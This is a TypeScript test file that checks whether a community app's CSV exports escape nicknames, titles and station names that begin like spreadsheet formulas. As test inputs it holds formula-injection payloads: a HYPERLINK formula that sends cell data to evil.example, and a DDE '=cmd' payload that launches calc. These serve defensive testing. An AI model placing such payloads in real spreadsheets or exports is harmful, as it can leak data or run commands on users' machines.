/**
 * Every export goes through one CSV writer with formula escaping (mock/csv.ts): text a resident or an organizer
 * typed that starts like a formula arrives in the spreadsheet as text, one test per export.
 */
import { harness, NOW, rid, stockTreasury, type Harness } from './harness'

let h: Harness
beforeEach(async () => {
  h = await harness({ organizers: ['boss'] })
})
afterEach(() => h.close())

const HOUR = 3_600_000
const at = (ms: number) => new Date(ms).toISOString()
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', '+SUM(1,2)', '-1+1', '@cmd']

/** Cells of a CSV (RFC 4180, quotes doubled), without the byte-order mark. */
function cells(csv: string): string[] {
  const out: string[] = []
  const re = /("(?:[^"]|"")*"|[^,\r\n]*)(,|\r\n|$)/g
  const text = csv.replace(/^\uFEFF/, '')
  for (let m = re.exec(text); m && m[0] !== ''; m = re.exec(text)) out.push(m[1].startsWith('"') ? m[1].slice(1, -1).replace(/""/g, '"') : m[1])
  return out
}

it('exportEventCsv: nicknames and the title that start like formulas arrive as text', async () => {
  const boss = await h.as('boss')
  await stockTreasury(boss, 10_000)
  const { event } = await boss.ok('createEvent', {
    requestId: rid(),
    title: '=1+1 植树',
    place: '公园',
    startsAt: at(NOW + HOUR),
    endsAt: at(NOW + 3 * HOUR),
    slots: 10,
    rewardPoints: 5,
    communityId: '',
  })
  for (const [i, nickname] of FORMULAS.entries()) {
    const r = await h.as(`csv${i}`)
    await r.ok('updateProfile', { nickname: nickname.slice(0, 20) })
    await r.ok('signUpEvent', { eventId: event.id })
  }
  const all = cells((await boss.ok('exportEventCsv', { eventId: event.id })).csv)
  for (const text of [...FORMULAS.map((f) => f.slice(0, 20)), '=1+1 植树']) {
    expect(all).toContain(`'${text}`)
    expect(all).not.toContain(text)
  }
})

it('exportImpactCsv: station names and reward titles that start like formulas arrive as text', async () => {
  const boss = await h.as('boss')
  await boss.ok('upsertStation', { code: 'ST-EVIL', name: '=cmd|" /C calc"!A0', nameEn: '+SUM(1)', materials: ['paper'] })
  const { reward } = await boss.ok('upsertReward', { title: '@SUM(A1:A9)', titleEn: '=1+1', pointsCost: 10, stock: 5 })
  const r = await h.as('ann')
  await r.ok('checkIn', { requestId: rid(), kind: 'recycling', material: 'paper', weightKg: 1, stationCode: 'ST-EVIL' })
  await r.ok('redeem', { requestId: rid(), rewardId: reward.id })
  const all = cells((await boss.ok('exportImpactCsv', { fromDay: '2026-11-29', toDay: '2026-11-29' })).csv)
  expect(all).toContain(`'=cmd|" /C calc"!A0`)
  expect(all).toContain(`'@SUM(A1:A9)`)
  // the English names (issue 23) too
  expect(all).toContain(`'+SUM(1)`)
  expect(all).toContain(`'=1+1`)
  expect(all.filter((c) => /^[=+@]/.test(c))).toEqual([])
  // numbers stay numbers: a negative figure is not escaped
  expect(all).toContain('3460')
})
